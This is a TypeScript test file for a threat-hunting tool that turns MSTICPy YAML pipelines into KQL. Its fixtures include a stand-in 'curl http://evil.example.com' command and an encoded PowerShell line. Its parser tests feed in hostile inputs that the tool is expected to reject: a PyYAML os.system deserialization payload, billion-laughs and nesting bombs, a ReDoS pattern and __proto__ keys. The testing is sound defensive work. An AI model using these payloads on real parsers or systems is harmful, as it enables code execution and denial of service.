import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type Hunt,
  open,
  type Pipeline,
  pipelineKql,
  readPipelines,
  runPipeline,
} from '../index.ts';

const folder = mkdtempSync(join(tmpdir(), 'huntbook-pipelines-'));
let hunt: Hunt;
beforeAll(async () => {
  const file = join(folder, 'starts.csv');
  const lines = [
    'Computer,Account,IpAddress,EventID,CommandLine',
    'ws1,corp\\ann,8.8.8.8,4688,powershell -enc VwByAGkAdABlAC0ASABvAHMAdAAgAGgAZQBsAGwAbwA=',
    'ws1,corp\\bob,10.0.0.1,4688,curl http://evil.example.com/a 198.51.100.7',
    'ws2,corp\\bob,,4624,dir',
  ];
  writeFileSync(file, `${lines.join('\n')}\n`);
  hunt = await open(file);
});
afterAll(async () => {
  await hunt.close();
  rmSync(folder, { recursive: true });
});

function read(text: string): Pipeline {
  const [pipeline] = readPipelines(text, 'steps.yaml');
  if (!pipeline) throw new Error('no pipeline');
  return pipeline;
}

const rowsOf = async (table: { page(request: object): Promise<{ rows: unknown[][] }> }) =>
  (await table.page({ offset: 0, limit: 100 })).rows;

/** Run one pipeline of YAML on the table of the test. */
async function run(text: string) {
  const done = await runPipeline(read(text), await hunt.kql('starts'));
  return { ...done, names: done.table.columns.map((c) => c.name), rows: await rowsOf(done.table) };
}

/** A pipeline whose steps are these lines of YAML, each a flow mapping. */
const steps = (...of: readonly string[]): string =>
  `pipelines:\n  p:\n    steps:\n${of.map((step) => `      - ${step}\n`).join('')}`;

describe('a pipeline of MSTICPy', () => {
  it('runs on a table as one query, and gives what it shows on the way', async () => {
    const done = await run(`
pipelines:
  facts:
    description: Addresses that are not ours
    steps:
      - name: kinds
        step_type: pivot
        function: util.ip_type
        entity: IpAddress
        comment: What they are
        params:
          column: IpAddress
          join: inner
      - name: look
        step_type: pivot_display
        params:
          title: All of them
          cols: [Computer, result]
          query: Computer.str.startswith('ws')
          head: 10
      - name: keep
        step_type: pivot_tee
        params:
          var_name: kinds_df
          clobber: true
      - name: picture
        step_type: pivot_tee_exec
        function: mp_plot.timeline
        params:
          source_columns: [Computer]
      - name: outside
        step_type: pd_accessor
        function: query
        pos_params: ["result == 'Public'"]
      - name: plot
        step_type: pd_accessor
        function: mp_plot.timeline
        pos_params: [one, 2]
`);
    expect(done.names).toEqual([
      'Computer',
      'Account',
      'IpAddress',
      'EventID',
      'CommandLine',
      'result',
    ]);
    expect(done.rows.map((row) => row[2])).toEqual(['8.8.8.8']);
    expect(done.shown.map(({ name, title }) => [name, title])).toEqual([
      ['look', 'All of them'],
      ['kinds_df', ''],
    ]);
    const [look, kept] = done.shown;
    expect(look && (await rowsOf(look.table))).toEqual([
      ['ws1', 'Public'],
      ['ws1', 'Private'],
    ]);
    expect(kept && (await rowsOf(kept.table))).toHaveLength(2);
    expect(done.notes.join('\n')).toMatch(/'picture'.*\n.*'plot'/);
    expect(done.kql).toContain('invoke ip_type(ip = IpAddress, join = "inner")');
  });

  it('names columns as MSTICPy does, so that later steps find them', async () => {
    const { names, rows } = await run(
      steps(
        '{name: a, step_type: pivot, entity: Process, function: util.extract_iocs, params: {columns: [CommandLine, Account]}}',
        '{name: b, step_type: pd_accessor, function: query, pos_params: ["IoCType == \'ipv4\'"]}',
        '{name: c, step_type: pd_accessor, function: filter, params: {items: [IoCType, Observable]}}',
      ),
    );
    expect(names).toEqual(['IoCType', 'Observable']);
    expect(rows).toEqual([['ipv4', '198.51.100.7']]);
  });

  it.each([
    [
      'function: util.b64decode, params: {column: CommandLine}',
      'decoded_string',
      'Write-Host hello',
    ],
    [
      'function: b64decode, params: {column: CommandLine, join: left}',
      'decoded_string',
      'Write-Host hello',
    ],
    ['function: util.url_components, params: {column: Computer}', 'url', 'ws1'],
    ['function: ip_type, params: {column: IpAddress}', 'ip', '8.8.8.8'],
    ['function: util.dns_components, params: {column: Computer}', 'suffix', ''],
    [
      'function: base64_unpack, params: {column: CommandLine, utf16: true}',
      'encoding_type',
      'utf-16',
    ],
  ])('calls %s', async (step, column, value) => {
    const { names, rows } = await run(steps(`{name: a, step_type: pivot, entity: X, ${step}}`));
    expect(rows[0]?.[names.indexOf(column)]).toBe(value);
  });

  it.each([
    ['query, pos_params: ["EventID == 4624"]', 1, 'ws2'],
    ['head, params: {n: 1}', 1, 'ws1'],
    ['sort_values, params: {by: [Computer, Account], ascending: [false, true]}', 3, 'ws2'],
    ['drop_duplicates, params: {subset: Computer}', 2, 'ws1'],
    ['nlargest, pos_params: [1, EventID]', 1, 'ws1'],
    ['dropna, params: {subset: [IpAddress]}', 2, 'ws1'],
    ['mp_pivot.filter, params: {expr: "EVIL.*com"}', 1, 'ws1'],
    ['mp_pivot.filter, params: {expr: 462}', 1, 'ws2'],
    ['mp_pivot.filter_cols, params: {cols: "comp*"}', 3, 'ws1'],
    ['mp_pivot.sort, params: {cols: "event:asc, account"}', 3, 'ws2'],
    ['rename, params: {columns: {Account: Who}}', 3, 'ws1'],
    ['drop, params: {columns: [Account]}', 3, 'ws1'],
    ['mp_pivot.parse_json, params: {cols: Account}', 3, 'ws1'],
  ])('does %s', async (step, count, first) => {
    const { names, rows } = await run(
      steps(`{name: a, step_type: pd_accessor, function: ${step}}`),
    );
    expect(rows).toHaveLength(count);
    expect(rows[0]?.[names.indexOf('Computer')]).toBe(first);
  });

  it.each([
    ['ti.lookup_ipv4_VirusTotal, params: {column: IpAddress}', 'sources = dynamic(["VirusTotal"])'],
    [
      'ti.lookup_ip, params: {obs_column: IpAddress, providers: [OTX]}',
      'sources = dynamic(["OTX"])',
    ],
    [
      'util.whois, params: {column: IpAddress, join: left}',
      'invoke rdap(resource = IpAddress, join = "left")',
    ],
  ])('asks others by %s, where the user allows it', async (step, part) => {
    const text = steps(`{name: asks, step_type: pivot, entity: IpAddress, function: ${step}}`);
    expect((await pipelineKql(read(text))).kql).toContain(part);
    await expect(run(text)).rejects.toThrow(/^steps\.yaml: step 'asks' of 'p': .*network/s);
  });

  it('reads what MSTICPy itself writes: no `pipelines:`, and nulls for what is not said', async () => {
    const { rows } = await run(`
facts:
  description: null
  steps:
  - comment: null
    entity: null
    function: head
    name: first
    params: {}
    pos_params: [2]
    step_type: pd_accessor
`);
    expect(rows).toHaveLength(2);
  });

  it.each([
    [
      'pivot, entity: Host, function: AzureSentinel.list_host_logons, params: {host_name: Computer}',
      'Host.AzureSentinel.list_host_logons',
    ],
    [
      'pivot, entity: IpAddress, function: util.ip_type, params: {column: IpAddress, colour: red}',
      'colour',
    ],
    ['pivot, entity: IpAddress, function: util.ip_type', 'names no column'],
    [
      'pivot, entity: IpAddress, function: util.ip_type, params: {column: IpAddress, join: cross}',
      'cross',
    ],
    ['pd_accessor, function: groupby, pos_params: [Computer]', 'groupby'],
    ['pd_accessor, function: query, pos_params: ["Account == @me"]', 'variable'],
    ['pd_accessor, function: head, pos_params: [many]', 'number of rows'],
    ['pd_accessor, function: head, pos_params: [1, 2]', 'by place'],
    ['pd_accessor, function: mp_pivot.filter_cols, params: {cols: "nothing*"}', 'there are none'],
    ['pd_accessor, function: mp_pivot.sort, params: {cols: "(a+)+$"}', 'not understood'],
  ])('says in one sentence which step of which file cannot be done: %s', async (step, words) => {
    const failing = run(steps(`{name: "odd step", step_type: ${step}}`));
    await expect(failing).rejects.toThrow(words);
    await expect(failing).rejects.toMatchObject({
      code: 'pipelines/cannot-translate',
      message: expect.stringMatching(/^steps\.yaml: step 'odd step' of 'p' \([^\n]*\.$/),
    });
  });

  it('tells faults of KQL by their step', async () => {
    const failing = run(
      steps(
        '{name: fine, step_type: pd_accessor, function: head}',
        '{name: odd, step_type: pd_accessor, function: query, pos_params: ["Nobody == 1"]}',
        '{name: after, step_type: pd_accessor, function: head}',
      ),
    );
    await expect(failing).rejects.toThrow(/^steps\.yaml: step 'odd' of 'p': .*Nobody/);
  });
});

describe('a pipeline in KQL', () => {
  it('is a text that goes on from a table, named by its file', async () => {
    const [pipeline] = readPipelines(
      '// Who ran what\n// on which host\n| where EventID == 4688\n| invoke base64_unpack(CommandLine)\n',
      'dir/odd-commands.kql',
    );
    expect(pipeline).toMatchObject({
      name: 'odd-commands',
      description: 'Who ran what on which host',
    });
    const { table } = await runPipeline(pipeline ?? read(''), await hunt.kql('starts'));
    expect(await rowsOf(table)).toHaveLength(1);
  });

  it('may stand in YAML, whole or as a step between others', async () => {
    const { rows } = await run(
      'pipelines: {p: {description: x, kql: "| where Computer == \'ws2\' | project Account"}}',
    );
    expect(rows).toEqual([['corp\\bob']]);
    const mixed = await run(
      steps(
        '{name: a, kql: "| project Computer"}',
        '{name: b, step_type: pd_accessor, function: head, params: {n: 1}}',
      ),
    );
    expect(mixed.rows).toEqual([['ws1']]);
  });

  it('reads YAML as PyYAML does: yes is true, and n is a name', async () => {
    const { rows } = await run(
      steps(
        '{name: a, step_type: pd_accessor, function: sort_values, params: {by: Computer, ascending: no}}',
      ),
    );
    expect(rows[0]?.[0]).toBe('ws2');
  });

  it('is what any pipeline is turned into, which runs alike', async () => {
    const text = steps(
      '{name: a, step_type: pivot, entity: IpAddress, function: ip_type, params: {column: IpAddress, join: left}}',
      '{name: b, step_type: pd_accessor, function: query, pos_params: ["result == \'Private\'"]}',
    );
    const { kql } = await pipelineKql(read(text));
    const saved = readPipelines(kql, 'saved.kql')[0] ?? read('');
    const again = await runPipeline(saved, await hunt.kql('starts'));
    expect(await rowsOf(again.table)).toEqual((await run(text)).rows);
  });
});

describe('a file of pipelines', () => {
  const fault = (text: string): unknown => {
    try {
      return readPipelines(text, 'odd.yaml');
    } catch (error) {
      return error;
    }
  };

  it.each([
    ['', 'holds no pipelines'],
    ['- 1\n- 2', 'holds no pipelines'],
    ['pipelines: {}', 'holds no pipelines'],
    ['pipelines: {p: 7}', 'is no mapping'],
    ['pipelines: {p: {steps: []}}', 'has no steps'],
    ['pipelines: {p: {steps: [7]}}', 'no mapping'],
    ['pipelines: {p: {steps: [{name: a, step_type: shell, function: rm}]}}', 'step_type'],
    ['pipelines: {p: {steps: [{name: a, step_type: pivot, run: x}]}}', 'says run'],
    ['pipelines: {p: {steps: [{name: a, step_type: pivot, params: [1]}]}}', 'params'],
    ['pipelines: {p: {kql: "SecurityEvent | take 1"}}', 'begin with |'],
    ['pipelines: {p: 1', 'line 1'],
    ['a: *nowhere', 'nowhere'],
    ['x: !!python/object/apply:os.system ["id"]', 'pipeline'],
  ])('that is at fault is told of: %s', (text, words) => {
    expect(fault(text)).toMatchObject({
      name: 'HuntError',
      message: expect.stringContaining(words),
    });
  });

  it('that is a bomb ends soon, with a sentence', () => {
    const laughs = ['a0: &a0 [x, x, x, x, x, x, x, x, x, x]'];
    for (let i = 1; i < 12; i++)
      laughs.push(`a${i}: &a${i} [${Array.from({ length: 10 }, () => `*a${i - 1}`).join(', ')}]`);
    const bombs = [
      laughs.join('\n'),
      '['.repeat(20_000),
      '{a: '.repeat(20_000),
      '- '.repeat(20_000),
      '? '.repeat(20_000),
      Array.from({ length: 1000 }, (_, i) => `${' '.repeat(i)}a:`).join('\n'),
      `pipelines: {p: {steps: [${'{name: a, kql: "| take 1"}, '.repeat(5000)}]}}`,
      'x'.repeat(2 * 1024 * 1024),
      '"'.repeat(100_000),
      '*a '.repeat(100_000),
    ];
    for (const bomb of bombs) expect(fault(bomb)).toMatchObject({ name: 'HuntError' });
  });

  it('whose keys are odd makes nothing of them', () => {
    const [pipeline] = readPipelines(
      'pipelines: {__proto__: {steps: [{name: constructor, step_type: pd_accessor, function: constructor, params: {__proto__: {x: 1}}}]}}',
      'odd.yaml',
    );
    expect(pipeline?.name).toBe('__proto__');
    expect(({} as Record<string, unknown>)['x']).toBeUndefined();
    return expect(pipelineKql(pipeline ?? read(''))).rejects.toThrow('no counterpart');
  });
});
